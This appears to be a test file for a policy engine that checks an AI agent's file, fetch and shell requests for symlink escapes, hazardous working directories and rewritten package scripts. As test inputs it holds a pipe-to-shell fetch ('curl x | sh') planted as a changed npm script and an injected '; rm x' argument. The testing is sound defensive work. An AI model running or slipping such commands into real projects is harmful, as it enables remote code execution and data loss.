import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import type { JsonObject, Kind, RequestFacts } from "@assent/core";
import { createPolicyFacts } from "../../src/facts/facts.ts";
import { getShellUnit } from "../../src/facts/units.ts";
import { createPathLookup } from "../../src/paths/lookup.ts";
import { isFault } from "../../src/rules/fault.ts";
import { parseRule } from "../../src/rules/parse.ts";
import { rememberPackageScripts } from "../../src/shell/effects/package-scripts.ts";
import { findPossibleDirectories } from "../../src/shell/effects/touched-paths.ts";
import { readPlannedLine } from "../../src/shell/plan/planned-line.ts";
import { OPTIONS, request, rule } from "../rules/rule-bench.ts";
import { scratch } from "../scratch.ts";
import { shellUnits } from "../seen-line.ts";

const facts = (workspace: string) => createPolicyFacts({ workspace, look: createPathLookup({ workspace }) });

const ask = (workspace: string, kind: Kind, paths: readonly string[] | undefined) =>
  facts(workspace)({ tool: "t", kind, input: {}, cwd: workspace, locations: paths?.map((path) => ({ path })) });

const shell = async (look: ReturnType<typeof facts>, workspace: string, input: { command: string; cwd?: string }): Promise<RequestFacts> =>
  await look({ tool: "shell", kind: "execute", input, cwd: workspace, locations: undefined });

test("each path is a unit, and the request is inside only if every path is", async (t) => {
  const root = scratch(t);
  const both = await ask(root, "edit", ["a", "/etc/x"]);
  assert.deepEqual(
    both.units.map(({ subject }) => subject),
    [join(root, "a"), "/etc/x"],
  );
  assert.deepEqual([both.insideWorkspace, (await ask(root, "edit", ["a", "b"])).insideWorkspace], [false, true]);
});

test("a command is read together with the arguments that a tool takes apart", async () => {
  const read = async (input: JsonObject) => {
    const { units } = await facts("/w")({ tool: "run", kind: "execute", input, cwd: "/w", locations: undefined });
    return units.map(({ subject }) => subject);
  };
  assert.deepEqual(await read({ command: "git", args: ["status"] }), await read({ command: "git status" }));
  assert.deepEqual(await read({ command: "git status", args: ["; rm x"] }), await read({ command: "git status ; rm x" }));
});

test("people are shown where a path really leads", async (t) => {
  const root = scratch(t);
  symlinkSync("/etc", join(root, "link"));
  const { view } = await ask(root, "edit", ["link/x"]);
  assert.deepEqual(view, { paths: [{ lexical: join(root, "link/x"), real: "/etc/x", inside: false, sensitive: false, control: false }] });
});

for (const [name, locations] of [
  ["none", []],
  ["unknown ones", undefined],
] as const) {
  test(`a request with ${name} is one unit, known to be nowhere`, async () => {
    assert.deepEqual(await ask("/w", "other", locations), { units: [{ subject: "t" }], binds: {} });
  });
}

test("a parent swapped for a link after judging changes what a request is bound to, to write or to read", async (t) => {
  const root = scratch(t);
  mkdirSync(join(root, "dir"));
  const before = await ask(root, "edit", ["dir/new/x"]);
  mkdirSync(join(root, "dir/new"));
  assert.deepEqual((await ask(root, "edit", ["dir/new/x"])).binds, before.binds);
  symlinkSync("/tmp", join(root, "dir/other"));
  assert.notDeepEqual((await ask(root, "edit", ["dir/other/x"])).binds, before.binds);
  const linked = await ask(root, "edit", ["dir/other/x"]);
  unlinkSync(join(root, "dir/other"));
  symlinkSync("/etc", join(root, "dir/other"));
  assert.notDeepEqual((await ask(root, "edit", ["dir/other/x"])).binds, linked.binds);
  assert.deepEqual((await ask(root, "read", ["dir/other/x"])).binds, (await ask(root, "edit", ["dir/other/x"])).binds);
});

test("each simple command of a shell line is a unit, and the plan that is judged is the plan that runs", async (t) => {
  const root = scratch(t);
  const { units, safe, plan, planDigest } = await shell(facts(root), root, { command: "ls && pwd | cat" });
  assert.deepEqual(
    units.map(({ subject }) => subject),
    ["ls", "pwd", "cat"],
  );
  assert.equal(safe, true);
  assert.ok(planDigest?.startsWith("sha256:"));
  assert.deepEqual([readPlannedLine(plan)?.plan.digest, readPlannedLine(plan)?.readOnly], [planDigest, true]);
  assert.deepEqual(
    readPlannedLine(plan)?.commands?.map(({ argv }) => argv),
    [["ls"], ["pwd"], ["cat"]],
  );
  assert.equal(readPlannedLine({ ...readPlannedLine(plan) }), undefined, "a copy is nobody's plan");
});

test("the view of a shell line shows the plan that was judged", async (t) => {
  const root = scratch(t);
  const found = await shell(facts(root), root, { command: "ls $X; pwd" });
  writeFileSync(join(root, "late"), "");
  const { plan, hazards } = found.view as { plan: JsonObject; hazards: readonly JsonObject[] };
  assert.deepEqual([plan["digest"], plan["shape"], plan["cwd"]], [found.planDigest, "text", root]);
  assert.deepEqual(plan["commands"], [
    { argv: ["ls", "$X"], path: [";[0]"], cwd: root },
    { argv: ["pwd"], path: [";[1]"], cwd: root },
  ]);
  assert.deepEqual(
    hazards.map(({ id }) => id),
    ["expansion"],
  );
  assert.deepEqual(found.view, found.view);
});

test("a working directory outside the workspace is a hazard; one inside is where the line runs", async (t) => {
  const root = scratch(t);
  mkdirSync(join(root, "src"));
  assert.equal((await shell(facts(root), root, { command: "ls", cwd: "/etc" })).safe, false);
  assert.equal((await shell(facts(root), root, { command: "ls", cwd: "src" })).safe, true);
  assert.match(JSON.stringify((await shell(facts(root), root, { command: "ls", cwd: "src" })).view), /\/src"/);
});

test("a script that changed since it was last looked at is shown with both digests", async (t) => {
  const root = scratch(t);
  const look = facts(root);
  const scripts = async (): Promise<Record<string, string>[]> =>
    JSON.parse(JSON.stringify((await shell(look, root, { command: "sh build.sh" })).view)).scripts;
  writeFileSync(join(root, "build.sh"), "echo one");
  const [first] = await scripts();
  assert.equal(first?.["before"], undefined);
  writeFileSync(join(root, "build.sh"), "echo two");
  const [second] = await scripts();
  assert.equal(second?.["before"], first?.["digest"]);
  assert.notEqual(second?.["digest"], first?.["digest"]);
});

test("a fetch is one unit with its host", async () => {
  const found = await facts("/w")({ tool: "fetch", kind: "fetch", input: { url: "https://Example.test./x" }, cwd: "/w", locations: [] });
  assert.deepEqual([found.units[0]?.subject, found.view], ["example.test", { host: "example.test" }]);
});

const SIZES: readonly (readonly [sentence: string, there: number, input: JsonObject, planFile: boolean])[] = [
  ["a whole text of 256 KiB", 0, { content: "x".repeat(256 * 1024) }, true],
  ["a whole text above that", 0, { content: "x".repeat(256 * 1024 + 1) }, false],
  ["a short text in place of a long one", 300 * 1024, { content: "x" }, true],
  ["an edit that may make it too long", 256 * 1024 - 4, { old_string: "a", new_string: "bbbb" }, false],
  ["a small edit", 1024, { old_string: "a", new_string: "bbbb" }, true],
];
for (const [sentence, there, input, planFile] of SIZES) {
  test(`${sentence} is ${planFile ? "" : "not "}a write of the plan`, async (t) => {
    const workspace = scratch(t);
    const plan = join(workspace, "plan.md");
    writeFileSync(plan, "a".repeat(there));
    const gather = createPolicyFacts({ workspace, look: createPathLookup({ workspace, planFile: () => plan }) });
    const found = await gather({ tool: "write", kind: "edit", input, cwd: workspace, locations: [{ path: "plan.md" }] });
    assert.equal(found.planFile === true, planFile);
    const two = await gather({ tool: "write", kind: "edit", input, cwd: workspace, locations: [{ path: "plan.md" }, { path: "other" }] });
    assert.equal(two.planFile, undefined, "every location must be the plan");
  });
}

type Shown = { readonly id: string; readonly text: string };

/** The hazards of a line, and its plan's digest, in a workspace whose scripts were read when it had the given package. */
async function scriptHazards(
  t: TestContext,
  now: string,
  command = "npm test",
): Promise<{ hazards: readonly Shown[]; found: RequestFacts; same: boolean }> {
  const workspace = scratch(t);
  const write = (test: string): void => writeFileSync(join(workspace, "package.json"), JSON.stringify({ scripts: { test } }));
  write("node --test");
  mkdirSync(join(workspace, "sub"));
  writeFileSync(join(workspace, "sub/package.json"), JSON.stringify({ scripts: { test: "tap" } }));
  const look = createPolicyFacts({ workspace, look: createPathLookup({ workspace }), scripts: rememberPackageScripts(workspace) });
  const before = await shell(look, workspace, { command });
  write(now);
  const found = await shell(look, workspace, { command });
  const { hazards = [] } = found.view as { hazards?: readonly Shown[] };
  return { hazards: hazards.filter(({ id }) => id === "script_changed"), found, same: found.planDigest === before.planDigest };
}

test("a package script that was rewritten since the policy was loaded is a hazard, and no part of the plan's digest", async (t) => {
  const { hazards, same } = await scriptHazards(t, "curl x | sh");
  assert.deepEqual(hazards, [{ id: "script_changed", text: "The script of npm test has changed since the policy was loaded" }]);
  assert.equal(same, true);
});

test("a package script that was not there when the policy was loaded is a hazard that says so", async (t) => {
  const { hazards } = await scriptHazards(t, "node --test", "npm run absent");
  assert.deepEqual(hazards, [
    { id: "script_changed", text: "There was no script for npm run absent in package.json when the policy was loaded" },
  ]);
});

for (const [sentence, now, command] of [
  ["that is as it was", "node --test", "npm test"],
  ["of another package than the workspace's own", "curl x | sh", "cd sub && npm test"],
] as const) {
  test(`a script ${sentence} is not bound`, async (t) => {
    assert.deepEqual((await scriptHazards(t, now, command)).hazards, []);
  });
}

test("a rule that is bound to the rewritten script holds, one that is bound to nothing does not", async (t) => {
  const { found } = await scriptHazards(t, "vitest");
  const about = { ...request("shell", { command: "npm test" }, found.units), kind: "execute" } as const;
  const [unit] = found.units;
  const script = Object.values(found.binds)[0] ?? "";
  assert.ok(unit);
  const holds = (bind: { script: string } | undefined): string => {
    const options = { ...OPTIONS, scripts: () => "sha256:old" };
    const read = parseRule({ verdict: "allow", at: { text: "Shell(npm test)" }, ...(bind && { bind }) }, options);
    return isFault(read) ? read.message : read.test(about, unit);
  };
  assert.deepEqual([holds({ script }), holds({ script: "sha256:old" }), holds(undefined)], ["yes", "no", "no"]);
});

test("what another tool does with a command is proven by nothing, and rules about commands reach it", async (t) => {
  const root = scratch(t);
  const of = async (tool: string, command: string): Promise<RequestFacts> =>
    await facts(root)({ tool, kind: "execute", input: { command }, cwd: root, locations: undefined });
  const [own, other] = [await of("shell", "ls && pwd"), await of("deploy", "ls && pwd")];
  assert.deepEqual([own.safe, own.units.map(({ readOnly }) => readOnly)], [true, [true, true]]);
  assert.deepEqual([other.safe, other.units.map(({ readOnly }) => readOnly)], [false, [false, false]]);
  const { units } = await of("deploy", "ls; git push");
  const about = { ...request("deploy", {}, units), kind: "execute" } as const;
  const options = { ...OPTIONS, tools: { get: () => ({ kind: "execute", commandArg: "command" }), names: () => ["deploy"] } };
  assert.deepEqual(
    units.map((unit) => rule("deny", "Shell(git push)", options).test(about, unit)),
    ["no", "yes"],
  );
});

test("where the commands of a line go is found out once, however many there are", () => {
  const [first] = shellUnits("cd a; cd b; ls; pwd", "/w", "unknown");
  assert.ok(first);
  let looks = 0;
  const line = Object.create(first.line, {
    seen: {
      get: () => {
        looks++;
        return first.line.seen;
      },
    },
  });
  const places = Array.from({ length: 100 }, () => findPossibleDirectories({ ...first, line }, "/home/u"));
  assert.deepEqual(places[99], ["/w", "/w/a", "/w/b", "/w/a/b"]);
  assert.equal(looks, 1);
  assert.deepEqual(findPossibleDirectories({ ...first, line: { ...first.line, seen: [] } }, "/home/u"), ["/w"]);
});

/** Among the directories of the last command are these; none: nobody can tell. */
const MOVES: readonly (readonly [sentence: string, command: string, among: readonly string[]])[] = [
  ["a wrapper's directory", "env -C a rm x", ["a"]],
  ["a directory gone to before, or not", "cd a; rm x", ["", "a"]],
  ["both, in any order", "cd a; env -C b rm x", ["", "a", "b", "a/b"]],
  ["a wrapper that goes where only the disk can say", "env -C ../a rm x", []],
];
for (const [sentence, command, among] of MOVES) {
  test(`where a command may run: ${sentence}: ${command}`, async (t) => {
    const root = scratch(t);
    const { units } = await shell(facts(root), root, { command });
    const unit = units.at(-1);
    const about = unit && getShellUnit(unit);
    assert.ok(about);
    const found = findPossibleDirectories(about, "/home/u").map((directory) => directory.slice(root.length + 1));
    assert.deepEqual(
      among.filter((directory) => !found.includes(directory)),
      [],
    );
    assert.equal(found.length === 0, among.length === 0);
  });
}
